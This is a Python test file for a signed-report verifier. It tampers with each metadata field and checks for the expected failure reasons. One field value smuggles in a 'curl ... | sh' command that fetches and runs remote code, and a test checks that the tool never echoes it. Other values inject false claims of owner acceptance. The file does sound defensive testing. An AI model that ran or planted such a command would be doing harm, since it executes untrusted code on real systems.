"""Each member of the issue facts, altered at issue by a holder of a trusted certificate: never passed.

The report is a real one; only what its issue says of itself is not so. What a file says of its register, and which hash
it says it replaces, only the register can deny: ``unit/cli/test_forked_register`` and ``unit/register`` hold that.
"""

from __future__ import annotations

import dataclasses
from typing import TYPE_CHECKING, Any

import pytest

from reportgen.formats import IssueFacts, Supersedes
from reportgen.formats.issue import CameraNotes, Head
from reportgen.pipeline.building import made_with, versions_stated
from reportgen.results.omitted import AreaOmitted, Omitted
from tests.command import run
from tests.e2e.signed_footbridge import built, signed, verified
from tests.unit.verification import signed_material as made

if TYPE_CHECKING:
    from pathlib import Path

DIFFER, PAGES = "FILES_DISAGREE", "PAGES_DIFFER"
COMMAND = "reportgen 0.2.0;curl${IFS}http://example.org/x|sh"
ALTERED: dict[str, list[tuple[Any, str]]] = {
    "number": [("HD-9-002", f"{DIFFER} {PAGES}"), ("", f"{DIFFER} {PAGES}")],
    "revision": [(1, f"{DIFFER} {PAGES}"), (-1, f"{DIFFER} {PAGES}")],
    "date": [("2026-05-05", f"{DIFFER} {PAGES}"), ("yesterday", f"{DIFFER} {PAGES}")],
    "issued_at": [
        ("2026-05-04T18:31:00Z", f"TIMES_DISAGREE {PAGES}"),
        ("2026-05-03T18:30:00Z", f"TIMES_DISAGREE {PAGES}"),
        ("2026-05-04T18:30:00", "EMBEDDED_FILES"),
    ],
    "status": [("draft", f"NOT_ISSUED {PAGES}"), ("demonstration", f"DEMONSTRATION {PAGES}")],
    "generator": [
        ("reportgen 0.0.1", "NOT_REBUILT"),
        ("reportgen 9.0.0", "NOT_REBUILT"),
        ("", "NOT_REBUILT"),
        (COMMAND, "NOT_REBUILT"),
    ],
    "made_with": [
        ({}, PAGES),
        ({**made_with(), "note": "The owner has accepted location 3 as it is."}, PAGES),
        ({**made_with(), "The owner has accepted location 3": "1.0"}, PAGES),
        ({**made_with(), "zlib": "1.3.1 (the owner has accepted location 3)"}, PAGES),
        ({**made_with(), "zlib": "1.3.1-accepted-by-the-owner"}, PAGES),
    ],
    "template": [({}, PAGES), ({"language": "en", "page": "A5"}, PAGES)],
    "register": [(Head(7, "ab" * 32), PAGES), (Head(-1, ""), PAGES)],
    "supersedes": [(Supersedes(0, "ab" * 32, "a reading was wrong"), f"{DIFFER} {PAGES}")],
    "camera": [({"p.jpg": CameraNotes("2026-05-04 10:00", "60 N")}, PAGES)],
    "omitted": [(Omitted((AreaOmitted("B-2", "rework"),)), f"PAGE_TEXT_DIFFERS {PAGES}")],
    "slip": [("B-1", f"PAGE_TEXT_DIFFERS {PAGES}"), ("B-2", "FILES_DISAGREE PAGE_TEXT_DIFFERS")],
    "site": [("Other shed", f"CHANGED_WHEN_SIGNING FILES_DISAGREE {PAGES}")],
    "certificate": [("ab" * 32, f"SIGNER_NOT_PINNED {PAGES}")],
    "signers": [
        ((), f"CHANGED_WHEN_SIGNING {DIFFER} {PAGES}"),
        (made.signatories([("inspector", "Edda Falk", None)]), f"{DIFFER} {PAGES}"),
    ],
    "words": [(0, PAGES), (2, "OTHER_RELEASE NOT_REBUILT")],
    "format": [(0, PAGES), (2, "OTHER_RELEASE")],
}
CASES = [(member, value, reasons) for member, cases in ALTERED.items() for value, reasons in cases]


@pytest.mark.parametrize(("member", "value", "reasons"), CASES, ids=[f"{one[0]}={one[1]}"[:60] for one in CASES])
def test_no_member_says_otherwise(member: str, value: object, reasons: str) -> None:
    answer = verified(signed(built(**{member: value})))
    assert {reason.name for reason in answer.reasons} == set(reasons.split()), answer.reasons
    open_ = {*reasons.split()} <= {"NOT_REBUILT", "OTHER_RELEASE"}
    assert answer.overall == ("indeterminate" if open_ else "failed")


def test_a_later_format_is_named_and_what_is_known_of_it_still_compared() -> None:
    answer = verified(signed(built(format=2)))
    (reason,) = answer.reasons
    assert reason.sentence == "format 2 of issue.json is not known to reportgen 0.1.0: use a later release"
    assert answer.steps[9].status == "not done"
    answer = verified(signed(built(format=2, site="Other shed")))
    assert {reason.name for reason in answer.reasons} == {DIFFER, "CHANGED_WHEN_SIGNING", "OTHER_RELEASE"}


@pytest.mark.parametrize("more", [{}, {"words": 2}], ids=["advice", "later words"])
def test_a_file_writes_no_command_for_people_to_type(tmp_path: Path, more: dict[str, Any]) -> None:
    """Which release to get is said of a release only: whatever else a file says there is not repeated."""
    file = tmp_path / "r.pdf"
    file.write_bytes(signed(built(generator=COMMAND, **more)))
    said = run("verify", file)
    text = " ".join((said.stdout + said.stderr).split())
    assert "curl" not in text
    assert "pip install" not in text
    assert more or "issue.json does not name a release of `reportgen` as what made it" in text


def test_versions_that_libraries_state_are_known_for_what_they_are() -> None:
    for version in ("12.0.0", "4.4.4", "1.3.1", "10.0.0.dev0", "9.0.0.post1", "5.0rc1", "1.3.1.zlib-ng", "4.2+ubuntu1"):
        assert versions_stated({"zlib": version}) == {"zlib": version}
    assert versions_stated(made_with()) == made_with()
    assert verified(signed(built(made_with={**made_with(), "zlib": "1.2.99"}))).overall == "passed"


def test_every_member_is_altered_and_none_of_it_is_nothing() -> None:
    assert set(ALTERED) == {field.name for field in dataclasses.fields(IssueFacts)}
    assert verified(signed(built())).overall == "passed"
